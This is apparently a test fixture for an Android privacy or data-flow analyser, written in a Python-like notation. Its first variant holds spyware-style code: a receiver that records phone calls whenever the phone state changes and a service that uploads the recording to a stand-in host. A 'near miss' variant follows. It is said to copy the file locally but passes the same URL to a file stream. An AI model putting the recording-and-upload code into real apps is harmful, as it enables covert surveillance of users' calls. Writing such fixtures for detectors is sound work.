permissions("RECORD_AUDIO", "READ_PHONE_STATE", "INTERNET")

@receiver(actions=["android.intent.action.PHONE_STATE"])
class Phone(BroadcastReceiver):
    def onReceive(self, context, intent):
        recorder = MediaRecorder()
        recorder.setAudioSource(4)
        recorder.setOutputFile("/sdcard/call")
        recorder.prepare()
        recorder.start()
        context.startService(Intent(context, Upload))

@service
class Upload(Service):
    def onStartCommand(self, intent, flags, number):
        content = array(byte, 4096)
        FileInputStream("/sdcard/call").read(content)
        self.keep(content)
        return 1
    def keep(self, content: "byte[]"):
        out = URL("https://example.org/in").openConnection().getOutputStream()
        out.write(content)

# near miss: copies the recording to another folder on the device
@service
class Upload(Service):
    def onStartCommand(self, intent, flags, number):
        content = array(byte, 4096)
        FileInputStream("/sdcard/call").read(content)
        self.keep(content)
        return 1
    def keep(self, content: "byte[]"):
        FileOutputStream("https://example.org/in").write(content)
